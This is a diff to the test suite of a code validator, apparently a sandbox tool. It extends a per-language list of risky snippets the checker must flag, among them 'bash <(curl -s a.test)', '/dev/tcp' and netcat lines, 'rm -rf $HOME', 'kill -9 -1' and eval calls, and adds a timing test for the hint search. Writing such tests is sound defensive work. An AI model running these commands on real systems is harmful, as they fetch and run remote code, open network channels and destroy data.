@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import subprocess
 import sys
+import time
 from pathlib import Path
 from typing import Any
 
@@ -12,6 +13,7 @@ import pytest
 
 from casemate import InvalidArgument, Sandbox, Validation
 from casemate.execution import validate as looking
+from casemate.languages.catalogue import runtime_for
 from casemate.languages.checker import Checker
 from casemate.languages.python import programs
 from casemate.languages.python.runtime import ruff_path
@@ -118,6 +120,7 @@ WARNED = {
         "import pathlib as p; p.Path('a').unlink()",
         "eval(x)", "exec(x)", "import os; os.kill(1, 9)", "import os; os.chmod('a', 0o777)",
         "import importlib; importlib.import_module(x)", "import os; os.fork()", "import os; os._exit(1)",
+        "import os; os.fchmod(4, mode=0o666)", "__builtins__.eval(x)",
     ),
     "node": (
         "require('child_process')", "import 'node:child_process'", "process.exit(1)", "process.kill(1)",
@@ -127,14 +130,15 @@ WARNED = {
     ),
     "shell": (
         "sh -c 'ls'", "bash -xc ls", "nc -l 80", "cat < /dev/tcp/1.2.3.4/80", "kill -9 -1", "kill -- -1", "pkill x",
-        "crontab -r", "chmod 777 a", "chmod -R a+rwx a", "rm -rf ../a", "rm -rf /etc", "rm -r ~/a", "rm -rf $HOME",
+        "crontab -r", "chmod 777 a", "chmod -R a+rwx a", "chmod go=w a", "kill -s KILL -1",
+        "rm -rf ../a", "rm -rf /etc", "rm -r ~/a", "rm -rf $HOME",
         "find . -delete", "eval $x", "bash <(curl -s a.test)",
     ),
 }  # fmt: skip
 PLAIN = {
-    "python": "import os, subprocess, pathlib\nos.chmod('a', 0o644)\nsubprocess.run(['ls'])\n",
+    "python": "import os, subprocess, pathlib\nos.chmod('a', 0o644)\nos.fchmod(3, 0o600)\nsubprocess.run(['ls'])\n",
     "node": "set.delete(1); fs.chmodSync('a', 0o755); const evaluate = (x) => x; process.exitCode = 1;\n",
-    "shell": "rm -rf build\nrm -rf /workspace/a\nrm a\nkill $pid\nchmod +x a\nchmod 755 a\nsh a.sh\n",
+    "shell": "rm -rf build\nrm -rf /workspace/a\nrm a\nkill $pid\nkill -1 $pid\nchmod +x a\nchmod 755 a\nsh a.sh\n",
 }
 
 
@@ -147,6 +151,13 @@ async def test_each_line_of_the_check_list_has_a_hint_and_its_harmless_neighbour
     assert {issue.line for issue in validation.issues if issue.severity == "hint"} == {*range(1, len(lines) + 1)}
     assert validation.valid
     assert codes(await sandbox.validate(PLAIN[language], language), "hint") == set()
+
+
+@pytest.mark.parametrize("line", ["chmod " + "o" * 330 + "+" + "w" * 660 + "!", "kill " + "-a " * 330])
+def test_no_line_takes_long_to_search_for_hints(line: str) -> None:
+    before = time.process_time()
+    assert runtime_for("shell").checker.hints_of(f"{line}\n" * 200) == ()
+    assert time.process_time() - before < 5
 
 
 async def test_the_programs_of_the_examples_have_no_hint(sandbox: Sandbox) -> None:
